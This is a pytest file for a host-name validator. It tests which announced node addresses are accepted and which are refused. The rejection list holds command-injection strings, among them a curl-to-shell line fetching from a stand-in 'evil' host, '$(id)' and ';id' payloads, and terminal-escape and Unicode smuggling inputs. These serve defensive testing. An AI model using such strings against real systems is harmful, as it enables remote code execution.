"""What a node may announce as its address: nothing that a shell, a terminal or a resolver reads as something else."""

import pytest

from head_node.host_names import HostMalformed, checked_host


@pytest.mark.parametrize(
    "host",
    [
        "10.0.0.7", "::1", "fd00::1", "fe80::1%eth0", "localhost", "head-1.rack.example", "head-1.rack.example.",
        "3com.example", "xn--bcher-kva.example", "a" * 63 + ".example", "0.0.0.0", "::",
    ],
)  # fmt: skip
def test_addresses_and_host_names_are_taken_as_they_are(host: str) -> None:
    assert checked_host(host) == host


def test_a_name_of_other_letters_is_kept_in_ascii() -> None:
    assert checked_host("bücher.example") == "xn--bcher-kva.example"


@pytest.mark.parametrize(
    "host",
    [
        "", ".", "a..b", " ", "10.0.0.7 -s 1 & curl -s http://evil/x | sh #", "10.0.0.7;id", "$(id)", "`id`", "a\nb",
        "a\tb",
        "a\x1b[2J", "a\x7f", "a\u202eb", "-a", "a-", "-s", "a_b", "a/b", "user@host", "host:80", "[::1]", "'a'", '"a"',
        "fe80::1%eth0;id", "fe80::1%", "fe80::1%$(id)", "fe80::1%a b", "10.0.0.7%eth0", "::1 ", " ::1",
        "127.1", "2130706433", "0x7f000001", "0x7f.1", "1.2.3", "1.2.3.4.5", "256.1.1.1", "010.0.0.1", "head.0x",
        "a" * 64 + ".example", ".".join(["a" * 60] * 5), "a\uff1bid", "\uff0e\uff0e", "head\u2028", "10.0.0.7\n",
    ],
)  # fmt: skip
def test_everything_else_is_refused(host: str) -> None:
    with pytest.raises(HostMalformed) as refused:
        checked_host(host)
    assert str(refused.value).isprintable()
